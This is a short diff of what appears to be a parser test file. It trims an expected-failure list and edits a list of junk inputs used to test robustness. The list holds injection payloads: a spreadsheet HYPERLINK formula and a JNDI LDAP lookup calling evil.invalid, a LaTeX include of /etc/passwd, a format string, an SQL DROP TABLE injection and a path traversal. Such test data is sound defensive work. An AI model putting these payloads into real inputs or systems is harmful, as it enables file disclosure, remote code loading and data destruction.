@@ -20,7 +20,6 @@ WRONG = {
     "06-doc-hai-html": "the fee with junk in it is lost: its sentence runs on into the next item",
     "07-doc-hai-jinja-excel": "junk before the names hides the parties, and all orders are taken for their list",
     "08-doc-hai-typst-latex": "a name with junk inside ends at the junk, without a doubt",
-    "09-nhay-so-thu-tu": "the surplus of the advance, refunded in the sentence of the fee, is read as a fee",
 }
 
 
@@ -91,7 +90,7 @@ JUNK = [
     '=HYPERLINK("http://evil.invalid","x")',
     "${jndi:ldap://evil.invalid}",
     '#eval("1+1")',
-    "$x^2$ \\input{/etc/passwd}",
+    "$x$ \\input{/etc/passwd}",
     "%s%n%d",
     "'; DROP TABLE vu_viec; --",
     "../../etc/passwd",
